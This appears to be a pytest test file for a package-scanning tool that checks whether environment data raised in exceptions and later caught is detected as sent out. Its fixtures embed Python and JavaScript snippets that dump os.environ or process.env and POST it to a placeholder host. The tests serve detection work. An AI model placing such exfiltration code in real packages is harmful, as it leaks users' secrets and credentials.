"""What is raised arrives in the handlers around, in the same function or in those that called it."""

import pytest
from attack_files import sdist, tar

from ostiary.core.examination import Examination
from ostiary.program.flow import Act, Taint
from ostiary.program.model import Program

SENDS = """import os, sys, traceback, urllib.request
def sends(what):
    urllib.request.urlopen("https://c.example.invalid/", data=str(what).encode())
class E(Exception):
    def __init__(self, held):
        self.held = held
def fails():
    raise ValueError(dict(os.environ))
def api():
"""
POST = "fetch('https://c.example.invalid/', {method: 'POST', body: %s})"


def _sent(found: Examination) -> set[str]:
    (program,) = (one for one in found.facts if isinstance(one, Program))
    return {one.kind for flow in program.flows if flow.act is Act.SEND for one in flow.carries}


def _of(body: str) -> set[str]:
    text = "\n".join(f"    {one}" for one in body.split("\n"))
    return _sent(sdist({"pkg/core.py": SENDS + text + "\n"}))


@pytest.mark.parametrize(
    "body",
    [
        "try: raise ValueError(dict(os.environ))\nexcept ValueError as e: sends(e.args)",
        "try: raise E(dict(os.environ))\nexcept E as e: sends(e.held)",
        "try: fails()\nexcept ValueError as e: sends(e)",
        "try: fails()\nexcept ValueError: pass\ntry: fails()\nexcept ValueError as e: sends(e)",
        "try:\n  try: fails()\n  except KeyError: pass\nexcept ValueError as e: sends(e)",
        "try:\n  try: fails()\n  except ValueError: raise\nexcept ValueError as e: sends(e)",
        "try: fails()\nexcept ValueError: sends(traceback.format_exc())",
        "try: fails()\nexcept ValueError: sends(sys.exc_info()[1])",
    ],
)
def test_a_handler_is_handed_what_was_raised(body: str) -> None:
    assert Taint.ENVIRONMENT in _of(body)


def test_one_handler_is_not_handed_what_another_one_was() -> None:
    body = "try: fails()\nexcept ValueError as e: pass\ntry: os.getpid()\nexcept OSError as e: sends(e)"
    assert Taint.ENVIRONMENT not in _of(body)


@pytest.mark.parametrize(
    "code",
    [
        "try { throw JSON.stringify(process.env) } catch (e) { %s }" % (POST % "e"),
        "try { throw new Error(JSON.stringify(process.env)) } catch (e) { %s }"
        % (POST % "e.message"),
    ],
)
def test_a_script_catches_what_it_throws(code: str) -> None:
    manifest = '{"name": "pkg", "version": "1.0.0", "main": "index.js"}'
    assert Taint.ENVIRONMENT in _sent(
        tar("pkg-1.0.0.tgz", {"package/package.json": manifest, "package/index.js": code})
    )
